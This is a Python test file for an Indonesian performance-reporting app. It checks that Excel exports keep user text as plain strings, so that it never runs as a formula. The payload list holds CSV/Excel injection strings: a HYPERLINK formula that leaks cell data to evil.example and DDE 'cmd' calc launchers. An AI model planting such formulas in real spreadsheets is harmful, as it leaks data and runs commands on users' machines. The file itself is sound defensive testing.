"""Excel formula injection: user text in every workbook the app writes is never evaluated as a formula."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from kinerja.excel import PEMICU_RUMUS, teks_aman, tulis_rumus, tulis_sel
from kinerja.extensions import db
from tests.integration.test_verifikasi import buat_aktivitas, masuk

JAHAT = [
    '=HYPERLINK("http://evil.example/?d="&C4,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sel_teks(wb):
    """Every cell of every sheet: (sheet, coordinate, data_type, value, quotePrefix)."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell.coordinate, cell.data_type, cell.value, cell.quotePrefix


@pytest.mark.parametrize("value", JAHAT)
def test_tulis_sel_writes_a_string_excel_will_not_evaluate(value):
    wb = Workbook()
    tulis_sel(wb.active, 1, 1, value)
    buffer = io.BytesIO()
    wb.save(buffer)
    cell = load_workbook(buffer).active["A1"]
    assert cell.data_type == "s"
    # The text is kept as typed, no visible apostrophe (XML reads a lone CR back as LF).
    assert cell.value == value.replace("\r", "\n")
    assert cell.quotePrefix  # Excel shows it as text and keeps it text when edited


@pytest.mark.parametrize("value", ["Menyusun laporan", "Rapat 2 jam", "a=b", 12, 3.5, date(2026, 3, 1), None])
def test_harmless_values_are_written_as_they_are(value):
    wb = Workbook()
    cell = tulis_sel(wb.active, 1, 1, value)
    assert cell.value == value
    assert not cell.quotePrefix


def test_intended_formulas_go_through_tulis_rumus_only():
    wb = Workbook()
    assert tulis_rumus(wb.active, 1, 1, "=SUM(A2:A3)").data_type == "f"
    with pytest.raises(ValueError):
        tulis_rumus(wb.active, 1, 2, "SUM(A2:A3)")


def test_teks_aman_for_plain_text_exports():
    assert teks_aman("=1+1") == "'=1+1"
    assert teks_aman("@x") == "'@x"
    assert teks_aman("biasa") == "biasa"
    assert set("=+-@\t\r") <= set(PEMICU_RUMUS)


@pytest.fixture
def isi_jahat(org):
    for i, uraian in enumerate(JAHAT):
        buat_aktivitas(org.staf1, hari=date(2026, 3, 2 + i), status="Disetujui", uraian=uraian)
    org.staf1.nama = '=HYPERLINK("http://evil.example/","Nama")'  # a name from the CSV import
    org.kasi.unit.nama = "+Unit jahat"
    db.session.commit()


def _assert_no_user_formula(wb, allowed_prefix: str | None = None):
    found = 0
    for sheet, coord, data_type, value, quote in _sel_teks(wb):
        if data_type == "f":
            assert allowed_prefix and str(value).startswith(allowed_prefix), (sheet, coord, value)
            continue
        if isinstance(value, str) and value.startswith(tuple(PEMICU_RUMUS)):
            assert data_type == "s" and quote, (sheet, coord, value)
            found += 1
    return found


def test_lkh_workbook_never_carries_a_live_formula_from_user_text(make_browser, org, isi_jahat):
    r = masuk(make_browser, org.staf1).get(f"/laporan/lkh/{org.staf1.id}/2026/3.xlsx")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.data))
    assert _assert_no_user_formula(wb) >= len(JAHAT) + 1
    values = [v for *_, v, _q in _sel_teks(wb)]
    assert JAHAT[0] in values  # kept readable, exactly as typed


def test_team_workbook_keeps_its_sums_but_no_user_formula(make_browser, org, isi_jahat):
    r = masuk(make_browser, org.kasi).get("/laporan/tim/2026/3.xlsx")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.data))
    assert _assert_no_user_formula(wb, allowed_prefix="=SUM(") >= len(JAHAT) + 2
    assert any(dt == "f" for _s, _c, dt, _v, _q in _sel_teks(wb))  # the totals still compute
